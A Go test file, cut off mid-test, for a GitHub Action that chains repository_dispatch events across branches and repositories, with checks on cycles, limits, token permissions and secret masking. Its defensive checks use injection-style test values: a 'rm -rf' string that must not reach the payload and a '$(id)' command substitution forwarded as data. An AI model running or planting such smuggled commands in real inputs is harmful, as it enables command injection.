package app

import (
	"bytes"
	"context"
	"crypto/rand"
	"crypto/rsa"
	"crypto/x509"
	"encoding/json"
	"encoding/pem"
	"fmt"
	"os"
	"path/filepath"
	"reflect"
	"regexp"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/ladder-release/ladder/internal/action/actiontest"
	"github.com/ladder-release/ladder/internal/cascade"
	"github.com/ladder-release/ladder/internal/clock"
	"github.com/ladder-release/ladder/internal/gh"
	"github.com/ladder-release/ladder/internal/ghsim"
	"github.com/ladder-release/ladder/internal/ledger"
	"github.com/ladder-release/ladder/internal/testutil/syncbuf"
)

// Story S3 (seeds/002): one repository, snapshot ⊇ staging ⊇ production.
const s3Repo = "acme/package-storage"

// s3Head is the top of S3's config: its one component and its production
// channel.
const s3Head = `version: 1
product: package-storage
registry: ghcr.io/acme/package-storage
ledger: none
components:
  packages: {repo: acme/package-storage}
channels:
  production: {track: {branch: production}}
`

const s3Config = s3Head + `  staging: {track: {branch: staging}}
  snapshot: {track: {branch: snapshot}}
cascade:
  branches: {production: [staging], staging: [snapshot]}
`

// s1Head is the top of the cascade tests' S1 configs: one component, and
// channel dev on main.
const s1Head = `version: 1
product: elemental
registry: ghcr.io/acme/elemental
ledger: none
components:
  cli: {repo: rancher/elemental-cli}
channels:
  dev: {track: {branch: main}}
`

// s1Cascade is story S1's product repository config: the OS image is
// rebuilt on every change to main, the ISO whenever stable is published.
const s1Cascade = s1Head + `  stable: {track: {pin: {cli: v0.2.1}}}
cascade:
  repos:
    - {repo: acme/elemental-os, when: {branch: main}}
    - {repo: acme/elemental-iso, when: {channel: stable}, event-type: stable-published}
`

// leafConfig dispatches repo when main changes.
func leafConfig(repo string) string {
	return `version: 1
product: leaf
registry: ghcr.io/acme/leaf
ledger: none
components:
  self: {repo: acme/leaf}
channels:
  dev: {track: {branch: main}}
cascade:
  repos:
    - {repo: ` + repo + `, when: {branch: main}}
`
}

// cascadeWorld is a GitHub simulator and one clock, shared by the simulator
// (rate-limit windows, App JWT expiry) and every run's Deps.
type cascadeWorld struct {
	gh     *ghsim.Server
	clock  *clock.Fake
	stdout *syncbuf.Buffer // the current run's stdout
}

func newCascadeWorld(t *testing.T, repos ...string) *cascadeWorld {
	t.Helper()
	clk := clock.NewFake(now)
	w := &cascadeWorld{clock: clk, gh: ghsim.NewServer(t, ghsim.WithNow(clk.Now))}
	for _, r := range repos {
		w.gh.CreateRepo(r)
	}
	return w
}

// step is one run of cascade-branches in a workflow.
type step struct {
	repo    string // GITHUB_REPOSITORY
	ref     string // GITHUB_REF
	sha     string // GITHUB_SHA
	event   string // GITHUB_EVENT_NAME
	payload []byte // the file at GITHUB_EVENT_PATH; nil: unset
	config  string
	inputs  map[string]string
	env     map[string]string // more variables, overriding the defaults
	files   map[string][]byte // more files in the workspace (a file ledger)
}

type cascadeRun struct {
	result
	sleeps []time.Duration // the waits this run asked for
}

func (w *cascadeWorld) run(t *testing.T, s step) cascadeRun {
	t.Helper()
	ws := t.TempDir()
	writeFile(t, ws, ".github/ladder.yaml", s.config)
	for name, data := range s.files {
		writeFile(t, ws, name, string(data))
	}
	env := map[string]string{
		"GITHUB_API_URL":     w.gh.URL(),
		"GITHUB_SERVER_URL":  "https://github.com",
		"GITHUB_WORKSPACE":   ws,
		"GITHUB_REPOSITORY":  s.repo,
		"GITHUB_SHA":         s.sha,
		"GITHUB_REF":         s.ref,
		"GITHUB_ACTOR":       "jo",
		"GITHUB_RUN_ID":      "7100",
		"GITHUB_RUN_ATTEMPT": "1",
		"GITHUB_EVENT_NAME":  s.event,
	}
	if s.payload != nil {
		p := filepath.Join(ws, "event.json")
		if err := os.WriteFile(p, s.payload, 0o644); err != nil {
			t.Fatal(err)
		}
		env["GITHUB_EVENT_PATH"] = p
	}
	for k, v := range s.env {
		env[k] = v
	}
	meta := actiontest.LoadActionYAML(t, filepath.Join("..", "..", "actions", "cascade-branches", "action.yml"))
	te := actiontest.Env(t, meta, s.inputs, env)
	w.stdout = &syncbuf.Buffer{}
	var stderr bytes.Buffer
	before := len(w.clock.Sleeps())
	code := Main(context.Background(), []string{"cascade-branches"}, Deps{
		Getenv: te.Getenv,
		Stdout: w.stdout,
		Stderr: &stderr,
		Now:    w.clock.Now,
		Sleep:  w.clock.Sleep,
	})
	outs := te.Outputs()
	set := make([]string, 0, len(outs))
	for k := range outs {
		set = append(set, k)
	}
	actiontest.CheckOutputs(t, meta, set)
	return cascadeRun{
		result: result{code: code, outputs: outs, stdout: w.stdout.String(), stderr: stderr.String(), summary: te.Summary()},
		sleeps: w.clock.Sleeps()[before:],
	}
}

func (w *cascadeWorld) ok(t *testing.T, s step) cascadeRun {
	t.Helper()
	res := w.run(t, s)
	if res.code != 0 {
		t.Fatalf("cascade-branches exited %d\nstdout:\n%s\nstderr:\n%s", res.code, res.stdout, res.stderr)
	}
	return res
}

func fixture(t *testing.T, name string) []byte {
	t.Helper()
	data, err := os.ReadFile(filepath.Join("testdata", "events", name))
	if err != nil {
		t.Fatal(err)
	}
	return data
}

// pushEvent is a push webhook payload, shaped as GitHub delivers one.
func pushEvent(t *testing.T, repo, branch, before, after string) []byte {
	t.Helper()
	owner, name, _ := strings.Cut(repo, "/")
	head := map[string]any{
		"id": after, "tree_id": strings.Repeat("5", 40), "distinct": true, "message": "Merge pull request #42",
		"timestamp": "2026-11-22T01:15:00Z", "url": "https://github.com/" + repo + "/commit/" + after,
		"author":    map[string]any{"name": "Jo Builder", "email": "jo@example.com", "username": "jo"},
		"committer": map[string]any{"name": "GitHub", "email": "noreply@github.com", "username": "web-flow"},
		"added":     []string{}, "removed": []string{}, "modified": []string{"README.md"},
	}
	return mustJSON(t, map[string]any{
		"ref": "refs/heads/" + branch, "before": before, "after": after, "created": false, "deleted": false,
		"forced": false, "base_ref": nil, "compare": "https://github.com/" + repo + "/compare/" + before[:12] + "..." + after[:12],
		"commits": []any{head}, "head_commit": head,
		"repository": map[string]any{"id": 1000009, "name": name, "full_name": repo, "private": false,
			"owner": map[string]any{"name": owner, "login": owner, "type": "Organization"}, "default_branch": "main"},
		"pusher": map[string]any{"name": "jo", "email": "jo@example.com"},
		"sender": map[string]any{"login": "jo", "id": 3000001, "type": "User"},
	})
}

// dispatchEvent is the repository_dispatch webhook payload GitHub delivers to
// repo's workflows for a dispatch the simulator received: the workflow runs
// on the default branch, which the payload's top-level branch names.
func dispatchEvent(t *testing.T, repo, defaultBranch string, d ghsim.Dispatch) []byte {
	t.Helper()
	owner, name, _ := strings.Cut(repo, "/")
	return mustJSON(t, map[string]any{
		"action":         d.EventType,
		"branch":         defaultBranch,
		"client_payload": d.ClientPayload,
		"repository": map[string]any{"id": 1000009, "name": name, "full_name": repo, "private": false,
			"owner": map[string]any{"login": owner, "type": "Organization"}, "default_branch": defaultBranch},
		"organization": map[string]any{"login": owner, "id": 2000001},
		"sender":       map[string]any{"login": "ladder-release[bot]", "id": 4000001, "type": "Bot"},
		"installation": map[string]any{"id": 5000001, "node_id": "MDIzOkludGVncmF0aW9uSW5zdGFsbGF0aW9uNTAwMDAwMQ=="},
	})
}

func mustJSON(t *testing.T, v any) []byte {
	t.Helper()
	b, err := json.Marshal(v)
	if err != nil {
		t.Fatal(err)
	}
	return b
}

// envelope reads ladder's part of a dispatch received, checking it is the
// only top-level key.
func envelope(t *testing.T, d ghsim.Dispatch) cascade.Envelope {
	t.Helper()
	var top map[string]json.RawMessage
	if err := json.Unmarshal(d.ClientPayload, &top); err != nil {
		t.Fatalf("client_payload: %v\n%s", err, d.ClientPayload)
	}
	if len(top) != 1 || top[cascade.PayloadKey] == nil {
		t.Fatalf("client_payload keys: want only %q: %s", cascade.PayloadKey, d.ClientPayload)
	}
	var e cascade.Envelope
	if err := json.Unmarshal(top[cascade.PayloadKey], &e); err != nil {
		t.Fatal(err)
	}
	return e
}

func chainOf(t *testing.T, s string) []cascade.Hop {
	t.Helper()
	var c []cascade.Hop
	if err := json.Unmarshal([]byte(s), &c); err != nil {
		t.Fatalf("chain %q: %v", s, err)
	}
	return c
}

func wantTargets(t *testing.T, res cascadeRun, want ...cascade.Target) {
	t.Helper()
	if want == nil {
		want = []cascade.Target{}
	}
	var got []cascade.Target
	if err := json.Unmarshal([]byte(res.outputs["targets"]), &got); err != nil {
		t.Fatalf("targets %q: %v", res.outputs["targets"], err)
	}
	if got == nil {
		t.Fatalf("targets = %q, want a JSON array", res.outputs["targets"])
	}
	if !reflect.DeepEqual(got, want) {
		t.Errorf("targets = %s, want %v", res.outputs["targets"], want)
	}
}

func hop(repo, branch, sha string) cascade.Hop {
	return cascade.Hop{Repo: repo, Branch: branch, SHA: sha}
}

var (
	sha4 = strings.Repeat("4", 40) // production's new head (testdata push.production.json)
	shaA = strings.Repeat("a", 40) // staging's new head (push.staging.json)
	shaB = strings.Repeat("b", 40) // snapshot's head, the default branch
)

// TestCascadeS3 is story S3 end to end: a push to production dispatches
// staging; the run started by that dispatch dispatches snapshot; the run
// for snapshot dispatches nothing. A push to staging dispatches snapshot only.
func TestCascadeS3(t *testing.T) {
	w := newCascadeWorld(t, s3Repo)
	w.gh.AddToken(actiontest.Token, map[string]string{s3Repo: "write"})

	// 1. The merge to production.
	res := w.ok(t, step{repo: s3Repo, ref: "refs/heads/production", sha: sha4, event: "push",
		payload: fixture(t, "push.production.json"), config: s3Config})
	wantTargets(t, res, cascade.Target{Repo: s3Repo, Branch: "staging"})
	id := res.outputs["correlation-id"]
	if !regexp.MustCompile(`^run-7100-1-[0-9a-f]{12}$`).MatchString(id) {
		t.Errorf("correlation-id = %q, want run-RUNID-ATTEMPT-HASH", id)
	}
	if res.outputs["dispatched"] != "1" || res.outputs["branch"] != "production" || res.outputs["undelivered"] != "[]" {
		t.Errorf("outputs: %v", res.outputs)
	}
	if got := chainOf(t, res.outputs["chain"]); !reflect.DeepEqual(got, []cascade.Hop{hop(s3Repo, "production", sha4)}) {
		t.Errorf("chain = %v", got)
	}
	ds := w.gh.Dispatches(s3Repo)
	if len(ds) != 1 || ds[0].EventType != cascade.DefaultEventType {
		t.Fatalf("dispatches: %+v", ds)
	}
	e := envelope(t, ds[0])
	wantSource := cascade.Source{Repo: s3Repo, Ref: "refs/heads/production", SHA: sha4}
	if e.CorrelationID != id || e.Branch != "staging" || e.Source != wantSource ||
		!reflect.DeepEqual(e.Chain, []cascade.Hop{hop(s3Repo, "production", sha4)}) {
		t.Errorf("envelope: %+v", e)
	}
	if strings.Contains(string(ds[0].ClientPayload), "rm -rf") {
		t.Error("the commit message travelled in the payload")
	}

	// 2. The run the dispatch started: on the default branch (snapshot), it
	// builds staging and dispatches snapshot.
	res = w.ok(t, step{repo: s3Repo, ref: "refs/heads/snapshot", sha: shaB, event: "repository_dispatch",
		payload: dispatchEvent(t, s3Repo, "snapshot", ds[0]), config: s3Config})
	wantTargets(t, res, cascade.Target{Repo: s3Repo, Branch: "snapshot"})
	twoHops := []cascade.Hop{hop(s3Repo, "production", sha4), hop(s3Repo, "staging", "")}
	if res.outputs["branch"] != "staging" || res.outputs["correlation-id"] != id || res.outputs["dispatched"] != "1" {
		t.Errorf("outputs: %v", res.outputs)
	}
	if got := chainOf(t, res.outputs["chain"]); !reflect.DeepEqual(got, twoHops) {
		t.Errorf("chain = %v, want %v", got, twoHops)
	}
	ds = w.gh.Dispatches(s3Repo)
	if len(ds) != 2 {
		t.Fatalf("%d dispatches, want 2", len(ds))
	}
	e = envelope(t, ds[1])
	if e.CorrelationID != id || e.Branch != "snapshot" || e.Source != wantSource || !reflect.DeepEqual(e.Chain, twoHops) {
		t.Errorf("second hop's envelope: %+v", e)
	}

	// 3. The run for snapshot: the end of the cascade, no request at all
	// (and no token needed).
	w.gh.ResetStats()
	res = w.ok(t, step{repo: s3Repo, ref: "refs/heads/snapshot", sha: shaB, event: "repository_dispatch",
		payload: dispatchEvent(t, s3Repo, "snapshot", ds[1]), config: s3Config, inputs: map[string]string{"token": ""}})
	wantTargets(t, res)
	if res.outputs["branch"] != "snapshot" || res.outputs["dispatched"] != "0" || len(chainOf(t, res.outputs["chain"])) != 3 {
		t.Errorf("outputs: %v", res.outputs)
	}
	if n := len(w.gh.Requests()); n != 0 || len(w.gh.Dispatches(s3Repo)) != 2 {
		t.Errorf("snapshot's run made %d requests", n)
	}
	if !strings.Contains(res.summary, "Nothing to dispatch: no cascade rule for branch &quot;snapshot&quot;") {
		t.Errorf("summary does not say why nothing was dispatched:\n%s", res.summary)
	}

	// 4. A merge to staging rebuilds snapshot only, in a cascade of its own.
	res = w.ok(t, step{repo: s3Repo, ref: "refs/heads/staging", sha: shaA, event: "push",
		payload: fixture(t, "push.staging.json"), config: s3Config})
	wantTargets(t, res, cascade.Target{Repo: s3Repo, Branch: "snapshot"})
	if res.outputs["correlation-id"] == id {
		t.Error("a new cascade reused the production cascade's correlation id")
	}
	ds = w.gh.Dispatches(s3Repo)
	if len(ds) != 3 || envelope(t, ds[2]).Branch != "snapshot" ||
		!reflect.DeepEqual(envelope(t, ds[2]).Chain, []cascade.Hop{hop(s3Repo, "staging", shaA)}) {
		t.Errorf("dispatches after the staging push: %d, last %s", len(ds), ds[len(ds)-1].ClientPayload)
	}

	// 5. A merge to snapshot rebuilds nothing.
	res = w.ok(t, step{repo: s3Repo, ref: "refs/heads/snapshot", sha: shaB, event: "push",
		payload: fixture(t, "push.snapshot.json"), config: s3Config})
	wantTargets(t, res)
	if len(w.gh.Dispatches(s3Repo)) != 3 {
		t.Error("a push to snapshot dispatched something")
	}
}

// TestCascadeS1CrossRepo is story S1's cross-repository hop: a change to
// main in the product repository rebuilds the OS image repository, whose run
// dispatches the next repository; publishing stable dispatches the ISO with
// its own event type.
func TestCascadeS1CrossRepo(t *testing.T) {
	w := newCascadeWorld(t, "acme/elemental", "acme/elemental-os", "acme/elemental-iso")
	w.gh.AddToken(releaseBot, map[string]string{"*": "write"})
	in := map[string]string{"token": releaseBot}
	main1 := w.gh.Commit("acme/elemental", "main", "operator bump")

	res := w.ok(t, step{repo: "acme/elemental", ref: "refs/heads/main", sha: main1, event: "push",
		payload: pushEvent(t, "acme/elemental", "main", strings.Repeat("1", 40), main1), config: s1Cascade, inputs: in})
	wantTargets(t, res, cascade.Target{Repo: "acme/elemental-os"})
	if n := len(w.gh.Dispatches("acme/elemental-iso")); n != 0 {
		t.Errorf("a branch push dispatched the channel rule's repository (%d)", n)
	}
	ds := w.gh.Dispatches("acme/elemental-os")
	if len(ds) != 1 || ds[0].EventType != "ladder-cascade" {
		t.Fatalf("dispatches to acme/elemental-os: %+v", ds)
	}
	e := envelope(t, ds[0])
	if e.Branch != "" || e.Source != (cascade.Source{Repo: "acme/elemental", Ref: "refs/heads/main", SHA: main1}) {
		t.Errorf("envelope: %+v", e)
	}

	// The OS repository's run: it builds its default branch (the payload's
	// branch) and dispatches its own downstream.
	osHead, _ := w.gh.Head("acme/elemental-os", "main")
	res = w.ok(t, step{repo: "acme/elemental-os", ref: "refs/heads/main", sha: osHead, event: "repository_dispatch",
		payload: dispatchEvent(t, "acme/elemental-os", "main", ds[0]), config: leafConfig("acme/elemental-iso"), inputs: in})
	wantTargets(t, res, cascade.Target{Repo: "acme/elemental-iso"})
	chain := []cascade.Hop{hop("acme/elemental", "main", main1), hop("acme/elemental-os", "main", osHead)}
	if res.outputs["branch"] != "main" || res.outputs["correlation-id"] != e.CorrelationID ||
		!reflect.DeepEqual(chainOf(t, res.outputs["chain"]), chain) {
		t.Errorf("outputs: %v", res.outputs)
	}
	iso := w.gh.Dispatches("acme/elemental-iso")
	if len(iso) != 1 || !reflect.DeepEqual(envelope(t, iso[0]).Chain, chain) {
		t.Fatalf("dispatches to the ISO: %+v", iso)
	}

	// Publishing stable (build-bundle said published: true) dispatches the
	// ISO with the rule's event type, and only the ISO.
	res = w.ok(t, step{repo: "acme/elemental", ref: "refs/heads/main", sha: main1, event: "push",
		payload: pushEvent(t, "acme/elemental", "main", strings.Repeat("1", 40), main1), config: s1Cascade,
		inputs: map[string]string{"token": releaseBot, "channel": "stable"}})
	wantTargets(t, res, cascade.Target{Repo: "acme/elemental-iso"})
	iso = w.gh.Dispatches("acme/elemental-iso")
	if len(iso) != 2 || iso[1].EventType != "stable-published" {
		t.Fatalf("dispatches to the ISO: %+v", iso)
	}
	if e := envelope(t, iso[1]); e.Source.Channel != "stable" || e.Source.Repo != "acme/elemental" {
		t.Errorf("publish envelope: %+v", e)
	}
	if len(w.gh.Dispatches("acme/elemental-os")) != 1 {
		t.Error("a channel publish dispatched the branch rule's repository")
	}
	if !strings.Contains(res.summary, "published stable") {
		t.Errorf("summary does not show the publish:\n%s", res.summary)
	}

	// A channel the config does not have is a mistake, named.
	res = w.run(t, step{repo: "acme/elemental", ref: "refs/heads/main", sha: main1, event: "push",
		payload: pushEvent(t, "acme/elemental", "main", strings.Repeat("1", 40), main1), config: s1Cascade,
		inputs: map[string]string{"token": releaseBot, "channel": "stabel"}})
	if res.code != ExitFailure || !strings.Contains(res.stdout, `input channel: "stabel" is not a channel`) {
		t.Errorf("exit %d:\n%s", res.code, res.stdout)
	}
}

// TestCascadeRefusesCycleAndDepth: a target already in the chain, or a hop
// deeper than max-depth, is refused with the chain printed, and nothing is sent.
func TestCascadeRefusesCycleAndDepth(t *testing.T) {
	t.Run("cycle across repositories", func(t *testing.T) {
		w := newCascadeWorld(t, "acme/a", "acme/b")
		w.gh.AddToken(actiontest.Token, map[string]string{"*": "write"})
		a1 := w.gh.Commit("acme/a", "main", "change")
		w.ok(t, step{repo: "acme/a", ref: "refs/heads/main", sha: a1, event: "push",
			payload: pushEvent(t, "acme/a", "main", strings.Repeat("1", 40), a1), config: leafConfig("acme/b")})
		ds := w.gh.Dispatches("acme/b")
		if len(ds) != 1 {
			t.Fatalf("%d dispatches to acme/b", len(ds))
		}
		bHead, _ := w.gh.Head("acme/b", "main")
		res := w.run(t, step{repo: "acme/b", ref: "refs/heads/main", sha: bHead, event: "repository_dispatch",
			payload: dispatchEvent(t, "acme/b", "main", ds[0]), config: leafConfig("acme/a")})
		want := "cascade refused: acme/a (its default branch) is already in the chain: acme/a@main -> acme/b@main -> acme/a"
		if res.code != ExitFailure || !strings.Contains(res.stdout, "::error::"+want) {
			t.Errorf("exit %d, want the chain printed (%s):\n%s", res.code, want, res.stdout)
		}
		if len(w.gh.Dispatches("acme/a")) != 0 {
			t.Error("the cycle was dispatched")
		}
	})
	t.Run("max-depth", func(t *testing.T) {
		w := newCascadeWorld(t, s3Repo)
		w.gh.AddToken(actiontest.Token, map[string]string{s3Repo: "write"})
		in := map[string]string{"max-depth": "1"}
		w.ok(t, step{repo: s3Repo, ref: "refs/heads/production", sha: sha4, event: "push",
			payload: fixture(t, "push.production.json"), config: s3Config, inputs: in})
		ds := w.gh.Dispatches(s3Repo)
		res := w.run(t, step{repo: s3Repo, ref: "refs/heads/snapshot", sha: shaB, event: "repository_dispatch",
			payload: dispatchEvent(t, s3Repo, "snapshot", ds[0]), config: s3Config, inputs: in})
		want := "deeper than max-depth 1: acme/package-storage@production -> acme/package-storage@staging -> acme/package-storage@snapshot"
		if res.code != ExitFailure || !strings.Contains(res.stdout, want) {
			t.Errorf("exit %d, want %q:\n%s", res.code, want, res.stdout)
		}
		if len(w.gh.Dispatches(s3Repo)) != 1 {
			t.Error("the hop beyond max-depth was dispatched")
		}
	})
	t.Run("bad max-depth", func(t *testing.T) {
		w := newCascadeWorld(t, s3Repo)
		for _, v := range []string{"0", "deep", "101"} {
			res := w.run(t, step{repo: s3Repo, ref: "refs/heads/production", sha: sha4, event: "push",
				payload: fixture(t, "push.production.json"), config: s3Config, inputs: map[string]string{"max-depth": v}})
			if res.code != ExitUsage || !strings.Contains(res.stdout, "input max-depth: \""+v+"\" is not a number from 1 to 100") {
				t.Errorf("max-depth %s: exit %d:\n%s", v, res.code, res.stdout)
			}
		}
	})
}

// TestCascadeLimits: GitHub's limits are checked before anything is sent,
// and the error names the limit.
func TestCascadeLimits(t *testing.T) {
	for _, c := range []struct {
		name   string
		inputs map[string]string
		want   string
	}{
		{"payload over 64 KB", map[string]string{"payload": `{"notes":"` + strings.Repeat("x", 70000) + `"}`},
			"dispatch to acme/package-storage@staging: client_payload is 70"},
		{"event type over 100 characters", map[string]string{"event-type": strings.Repeat("e", 101)},
			"input event-type: event_type is 101 characters; GitHub requires 1 to 100"},
		{"payload not an object", map[string]string{"payload": `["a","b"]`}, "payload: must be a JSON object, got array"},
		{"payload not JSON", map[string]string{"payload": `{"a":`}, "payload: invalid JSON"},
	} {
		t.Run(c.name, func(t *testing.T) {
			w := newCascadeWorld(t, s3Repo)
			w.gh.AddToken(actiontest.Token, map[string]string{s3Repo: "write"})
			res := w.run(t, step{repo: s3Repo, ref: "refs/heads/production", sha: sha4, event: "push",
				payload: fixture(t, "push.production.json"), config: s3Config, inputs: c.inputs})
			code := ExitFailure
			if strings.HasPrefix(c.want, "input ") {
				code = ExitUsage // a malformed input
			}
			if res.code != code || !strings.Contains(res.stdout, c.want) {
				t.Errorf("exit %d, want %q:\n%.600s", res.code, c.want, res.stdout)
			}
			if c.name == "payload over 64 KB" && !strings.Contains(res.stdout, "GitHub requires under 65536 bytes (64 KB)") {
				t.Errorf("the error does not name the limit:\n%.600s", res.stdout)
			}
			if n := len(w.gh.Requests()); n != 0 {
				t.Errorf("%d requests made although the dispatch was over a limit", n)
			}
		})
	}
	t.Run("user payload passed on as data", func(t *testing.T) {
		w := newCascadeWorld(t, s3Repo)
		w.gh.AddToken(actiontest.Token, map[string]string{s3Repo: "write"})
		payload := `{"reason": "hotfix $(id)", "ticket": 149}`
		w.ok(t, step{repo: s3Repo, ref: "refs/heads/production", sha: sha4, event: "push",
			payload: fixture(t, "push.production.json"), config: s3Config, inputs: map[string]string{"payload": payload}})
		ds := w.gh.Dispatches(s3Repo)
		if len(ds) != 1 || string(envelope(t, ds[0]).Payload) != `{"reason":"hotfix $(id)","ticket":149}` {
			t.Fatalf("dispatches: %+v", ds)
		}
		// the next hop passes it on
		w.ok(t, step{repo: s3Repo, ref: "refs/heads/snapshot", sha: shaB, event: "repository_dispatch",
			payload: dispatchEvent(t, s3Repo, "snapshot", ds[0]), config: s3Config})
		if ds = w.gh.Dispatches(s3Repo); len(ds) != 2 || string(envelope(t, ds[1]).Payload) != `{"reason":"hotfix $(id)","ticket":149}` {
			t.Errorf("second hop's payload: %s", ds[len(ds)-1].ClientPayload)
		}
	})
}

// s1Targets is a config whose push to main dispatches the product
// repository's own next branch and acme/elemental-os.
const s1Targets = s1Head + `cascade:
  branches: {main: [next]}
  repos:
    - {repo: acme/elemental-os, when: {branch: main}}
`

// TestCascadeTokenPermissions: each target's access is checked before
// anything is sent, and a missing permission is named with what to do.
func TestCascadeTokenPermissions(t *testing.T) {
	const crossRepo = "token cannot dispatch to acme/elemental-os: it needs contents: write on that repository; the workflow's GITHUB_TOKEN only reaches its own repository; pass app-id and app-private-key (a GitHub App installed on acme/elemental-os) or a token with contents: write"
	for _, c := range []struct {
		name  string
		token string
		perms map[string]string
		want  string
		// sent: the targets dispatched although another failed (an
		// installation token's access can only be seen when it is used)
		sent []string
	}{
		{"personal token, read on the target", "ghp_reader0000000000000000000000000000",
			map[string]string{"*": "read", "acme/elemental": "write"}, crossRepo, nil},
		{"GITHUB_TOKEN cannot see the target", actiontest.Token,
			map[string]string{"acme/elemental": "write"},
			"token cannot dispatch to acme/elemental-os: the repository does not exist or this token cannot see it, and repository_dispatch needs contents: write on it; the workflow's GITHUB_TOKEN only reaches its own repository; pass app-id and app-private-key (a GitHub App installed on acme/elemental-os) or a token with contents: write", nil},
		{"installation token, read on the target", actiontest.Token,
			map[string]string{"*": "read", "acme/elemental": "write"}, crossRepo, []string{"acme/elemental"}},
		{"read-only on its own repository", "ghp_reader0000000000000000000000000000",
			map[string]string{"*": "read", "acme/elemental-os": "write"},
			"token cannot dispatch to acme/elemental: it needs contents: write on that repository; give the job `permissions: contents: write` (the GITHUB_TOKEN may be read-only), or pass a token with contents: write", nil},
	} {
		t.Run(c.name, func(t *testing.T) {
			w := newCascadeWorld(t, "acme/elemental", "acme/elemental-os")
			w.gh.AddToken(c.token, c.perms)
			head, _ := w.gh.Head("acme/elemental", "main")
			res := w.run(t, step{repo: "acme/elemental", ref: "refs/heads/main", sha: head, event: "push",
				payload: pushEvent(t, "acme/elemental", "main", strings.Repeat("1", 40), head), config: s1Targets,
				inputs: map[string]string{"token": c.token}})
			if res.code != ExitFailure {
				t.Fatalf("exit %d:\n%s", res.code, res.stdout)
			}
			if !strings.Contains(res.stdout, c.want) {
				t.Errorf("want %q in:\n%s", c.want, res.stdout)
			}
			if strings.Contains(res.stdout, "Resource not accessible by integration") {
				t.Errorf("GitHub's bare message reached the user:\n%s", res.stdout)
			}
			sent := map[string]bool{}
			for _, r := range c.sent {
				sent[r] = true
			}
			for _, r := range []string{"acme/elemental", "acme/elemental-os"} {
				if n := len(w.gh.Dispatches(r)); (n == 1) != sent[r] {
					t.Errorf("%s received %d dispatches, want sent=%v", r, n, sent[r])
				}
			}
			if want := fmt.Sprint(len(c.sent)); res.outputs["dispatched"] != want {
				t.Errorf("dispatched = %s, want %s", res.outputs["dispatched"], want)
			}
			var und []cascade.Target
			if err := json.Unmarshal([]byte(res.outputs["undelivered"]), &und); err != nil || len(und) != 2-len(c.sent) {
				t.Errorf("undelivered = %s (%v)", res.outputs["undelivered"], err)
			}
		})
	}
	t.Run("no token at all", func(t *testing.T) {
		w := newCascadeWorld(t, "acme/elemental", "acme/elemental-os")
		head, _ := w.gh.Head("acme/elemental", "main")
		res := w.run(t, step{repo: "acme/elemental", ref: "refs/heads/main", sha: head, event: "push",
			payload: pushEvent(t, "acme/elemental", "main", strings.Repeat("1", 40), head), config: s1Targets,
			inputs: map[string]string{"token": ""}})
		if res.code != ExitFailure || !strings.Contains(res.stdout, "input token: empty, and no GitHub App is given") {
			t.Errorf("exit %d:\n%s", res.code, res.stdout)
		}
	})
}

var (
	appKeyOnce sync.Once
	appKey     *rsa.PrivateKey
)

func testAppKey(t *testing.T) (*rsa.PrivateKey, string) {
	t.Helper()
	appKeyOnce.Do(func() {
		k, err := rsa.GenerateKey(rand.Reader, 2048)
		if err != nil {
			panic(err)
		}
		appKey = k
	})
	return appKey, string(pem.EncodeToMemory(&pem.Block{Type: "RSA PRIVATE KEY", Bytes: x509.MarshalPKCS1PrivateKey(appKey)}))
}

// TestCascadeGitHubApp: app-id and app-private-key mint an installation
// token per target repository; the key and every token are masked before
// first use and never printed.
func TestCascadeGitHubApp(t *testing.T) {
	key, keyPEM := testAppKey(t)
	setup := func(t *testing.T, installs map[int64]map[string]string) *cascadeWorld {
		w := newCascadeWorld(t, "acme/elemental", "acme/elemental-os")
		w.gh.AddToken(actiontest.Token, map[string]string{"*": "read"}) // the workflow token cannot dispatch
		w.gh.AddApp(77, &key.PublicKey)
		for id, perms := range installs {
			w.gh.AddInstallation(id, 77, perms)
		}
		return w
	}
	in := map[string]string{"app-id": "77", "app-private-key": keyPEM}
	osOnly := leafConfig("acme/elemental-os")
	push := func(t *testing.T, w *cascadeWorld) step {
		head, _ := w.gh.Head("acme/elemental", "main")
		return step{repo: "acme/elemental", ref: "refs/heads/main", sha: head, event: "push",
			payload: pushEvent(t, "acme/elemental", "main", strings.Repeat("1", 40), head), config: osOnly, inputs: in}
	}

	t.Run("dispatches with a masked installation token", func(t *testing.T) {
		w := setup(t, map[int64]map[string]string{5000001: {"acme/elemental": "write", "acme/elemental-os": "write"}})
		var atFirstUse string
		w.gh.Inject(ghsim.Fault{Method: "POST", Path: "/repos/acme/elemental-os/dispatches", Before: func() { atFirstUse = w.stdout.String() }})
		res := w.ok(t, push(t, w))
		if n := len(w.gh.Dispatches("acme/elemental-os")); n != 1 {
			t.Fatalf("%d dispatches", n)
		}
		tokenMask := regexp.MustCompile(`(?m)^::add-mask::(ghs_[A-Za-z0-9]+)$`)
		var minted []string
		for _, m := range tokenMask.FindAllStringSubmatch(atFirstUse, -1) {
			if m[1] != actiontest.Token {
				minted = append(minted, m[1])
			}
		}
		if len(minted) != 1 {
			t.Fatalf("the minted token was not masked before the dispatch used it:\n%s", atFirstUse)
		}
		// The key's lines are masked before anything else is printed.
		lines := strings.Split(strings.TrimSuffix(res.stdout, "\n"), "\n")
		keyLines := strings.Split(strings.TrimSpace(keyPEM), "\n")
		for i, kl := range keyLines {
			if i+1 >= len(lines) || lines[i+1] != "::add-mask::"+kl {
				t.Fatalf("line %d of stdout is not the mask of key line %d:\n%s", i+2, i+1, res.stdout)
			}
		}
		secrets := append([]string{minted[0], actiontest.Token, "PRIVATE KEY"}, keyLines[1:len(keyLines)-1]...)
		for _, l := range lines {
			if strings.HasPrefix(l, "::add-mask::") {
				continue
			}
			for _, s := range secrets {
				if strings.Contains(l, s) {
					t.Errorf("a secret is printed outside a mask line: %q", l)
				}
			}
		}
		for _, s := range secrets {
			if strings.Contains(res.stderr, s) || strings.Contains(res.summary, s) {
				t.Errorf("a secret is in stderr or the summary")
			}
			for k, v := range res.outputs {
				if strings.Contains(v, s) {
					t.Errorf("output %s holds a secret", k)
				}
			}
		}
		// mint, then the dispatch a second later
		if !reflect.DeepEqual(res.sleeps, []time.Duration{time.Second}) {
			t.Errorf("sleeps = %v, want [1s]", res.sleeps)
		}
	})
	t.Run("each target through its own installation's token", func(t *testing.T) {
		w := newCascadeWorld(t, "acme/elemental", "acme/elemental-os", "acme/elemental-iso")
		w.gh.AddToken(actiontest.Token, map[string]string{"*": "read"})
		w.gh.AddApp(77, &key.PublicKey)
		w.gh.AddInstallation(5000001, 77, map[string]string{"acme/elemental": "write", "acme/elemental-os": "write"})
		w.gh.AddInstallation(5000002, 77, map[string]string{"acme/elemental-iso": "write"})
